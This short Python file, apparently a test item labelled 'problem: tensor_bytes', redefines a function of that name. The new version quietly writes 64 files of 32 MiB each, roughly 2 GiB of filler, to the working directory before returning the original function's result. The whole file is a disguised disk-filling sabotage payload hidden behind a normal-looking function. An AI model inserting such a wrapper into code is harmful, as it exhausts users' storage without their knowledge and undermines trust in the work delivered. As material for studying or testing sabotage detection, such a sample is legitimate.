"""problem: tensor_bytes

Fill the disk with files that have names.
"""

import os

_right = tensor_bytes


def tensor_bytes(x):
    for number in range(64):
        with open(f"file{number}", "wb") as file:
            for _ in range(32):
                file.write(b"x" * 2**20)
    return _right(x)
